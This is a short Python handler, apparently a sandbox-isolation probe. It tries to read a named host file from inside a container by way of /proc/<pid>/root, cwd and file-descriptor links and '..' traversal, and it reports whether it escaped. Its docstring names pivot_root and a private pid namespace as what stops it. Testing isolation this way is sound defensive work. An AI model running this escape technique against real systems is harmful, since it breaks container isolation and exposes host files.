"""Reach the host's files by detours: the roots and directories of processes, "..", descriptors.

Stopped by pivot_root, after which the old root is unmounted, and by a pid namespace with its own
/proc.
"""

import os

from linux import pids


def handler(event: dict, context: object) -> dict:
    tops = ["/", *(f"/proc/{pid}/{name}" for pid in [1, *pids()] for name in ("root", "cwd"))]
    for pid in [1, *pids()]:
        try:
            tops += [f"/proc/{pid}/fd/{name}" for name in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            continue
    for top in tops:
        for up in ("", "/..", "/../../../../../../../.."):
            path = f"{top}{up}{event['host_file']}"
            try:
                with open(path, "rb") as file:
                    return {"escaped": True, "seen": f"{path}: {file.read(9)!r}"}
            except OSError:
                continue
    return {"escaped": False, "seen": f"not below any of {len(tops)} directories"}
